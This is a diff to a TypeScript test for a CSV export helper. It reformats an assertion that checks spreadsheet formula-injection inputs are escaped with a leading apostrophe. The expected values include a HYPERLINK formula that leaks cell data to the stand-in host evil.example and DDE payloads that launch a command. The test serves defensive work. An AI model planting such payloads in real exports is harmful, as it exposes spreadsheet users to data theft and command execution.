@@ -48,7 +48,14 @@ describe('csvCell', () => {
     await predictCsv(model, path.join(repoRoot, 'test/fixtures/bad-inputs/formula-cells.csv'), out);
     const rows = parse(fs.readFileSync(out, 'utf8'), { columns: true }) as Record<string, string>[];
     for (const r of rows) for (const v of Object.values(r)) expect(looksLikeFormula(v), v).toBe(false);
-    expect(rows.map((r) => r.link)).toEqual([`'=HYPERLINK("http://evil.example/?x="&A2,"click")`, "'+cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0", 'plain', 'plain']);
+    expect(rows.map((r) => r.link)).toEqual([
+      `'=HYPERLINK("http://evil.example/?x="&A2,"click")`,
+      "'+cmd|' /C calc'!A0",
+      "'@SUM(1+1)*cmd|' /C calc'!A0",
+      "'-2+3+cmd|' /C calc'!A0",
+      'plain',
+      'plain',
+    ]);
     expect(rows.map((r) => r.amount)).toEqual(['10', '-1.5', '3', '4', '5', '6']);
   });
 });
